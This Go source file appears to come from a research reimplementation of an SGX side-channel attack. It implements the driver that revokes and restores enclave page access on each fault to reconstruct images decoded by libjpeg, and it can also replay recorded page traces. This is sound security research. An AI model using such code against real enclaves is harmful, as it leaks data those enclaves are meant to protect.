// Package jpegattack implements the attack driver (C9): wiring the JPEG
// page-fault reconstruction state machine (internal/jpegfsm) to a live
// enclave's page faults through the narrow bridge interfaces, or replaying
// a previously recorded page-access sequence with no enclave at all.
// Mirrors original_source/app/libjpeg/attack/src/main.rs's
// GlobalState/fault_handler and its trace-replay counterpart.
package jpegattack

import (
	"sync"

	"github.com/pkg/errors"

	"sgxtlblur/internal/bridge"
	"sgxtlblur/internal/jpegfsm"
)

// Driver owns the single mutex-guarded reconstruction state mutated from
// the page-fault callback, matching the concurrency model's "trap handler
// is the sole mutator" discipline translated to a page-fault callback
// instead of a step trap.
type Driver struct {
	mu sync.Mutex

	state      jpegfsm.State
	rec        *jpegfsm.Reconstruct
	profile    jpegfsm.Profile
	protector  bridge.PageProtector
	workingSet []int
}

// New returns a Driver in state PreStart, reconstructing into a buffer with
// numColors channels, protecting pages through protector. onBlock, if
// non-nil, is invoked after every committed block (driving a progress
// indicator); it may be nil.
func New(profile jpegfsm.Profile, numColors int, protector bridge.PageProtector, onBlock func()) *Driver {
	rec := jpegfsm.NewReconstruct(numColors)
	rec.OnBlock = onBlock
	return &Driver{
		state:     jpegfsm.State{Kind: jpegfsm.PreStart},
		rec:       rec,
		profile:   profile,
		protector: protector,
	}
}

// Reconstruct returns the accumulated reconstruction buffer. Intended to be
// read once the attack has finished driving Fault.
func (d *Driver) Reconstruct() *jpegfsm.Reconstruct { return d.rec }

// ProtectNextPages revokes access to every page range that could trigger a
// transition out of the current state, arming the first fault. Called once
// before the enclave's decompression ecall, before any fault has occurred.
func (d *Driver) ProtectNextPages() error {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.protectNextPages()
}

func (d *Driver) protectNextPages() error {
	for _, r := range jpegfsm.NextPages(d.state, d.profile) {
		if r.Start == r.End {
			continue
		}
		if err := d.protector.RevokePages(r.Start, r.End-r.Start); err != nil {
			return errors.Wrap(err, "jpegattack: revoke pages")
		}
	}
	return nil
}

// Fault advances the state machine on a fault at page, notifies the
// reconstruction of the transition, revokes the next trigger ranges, and
// restores access so the enclave can resume: to the full two-page working
// set under the AEX-Notify profile, or just the faulting page otherwise.
// Any protection failure is fatal per the governing error-handling design;
// the caller (the registered FaultRegistrar callback) is expected to panic.
func (d *Driver) Fault(page int) error {
	d.mu.Lock()
	defer d.mu.Unlock()

	prev := d.state
	next := jpegfsm.Next(prev, page, d.profile)
	d.rec.Transition(prev, next)
	d.state = next

	if err := d.protectNextPages(); err != nil {
		return err
	}

	if d.profile.AEXNotify {
		d.workingSet = append(d.workingSet, page)
		if len(d.workingSet) > 2 {
			d.workingSet = d.workingSet[1:]
		}
		for _, p := range d.workingSet {
			if err := d.protector.RestorePages(p, 1); err != nil {
				return errors.Wrap(err, "jpegattack: restore working-set page")
			}
		}
		return nil
	}
	if err := d.protector.RestorePages(page, 1); err != nil {
		return errors.Wrap(err, "jpegattack: restore page")
	}
	return nil
}

// ReplayPages drives the state machine over a recorded page sequence with
// no enclave and no page protection involved, as used by the trace-replay
// attack mode (cmd/jpegattack's "trace" subcommand). onBlock, if non-nil,
// is invoked after every committed block.
func ReplayPages(profile jpegfsm.Profile, numColors int, pages []int, onBlock func()) *jpegfsm.Reconstruct {
	rec := jpegfsm.NewReconstruct(numColors)
	rec.OnBlock = onBlock
	state := jpegfsm.State{Kind: jpegfsm.PreStart}
	for _, page := range pages {
		next := jpegfsm.Next(state, page, profile)
		rec.Transition(state, next)
		state = next
	}
	return rec
}
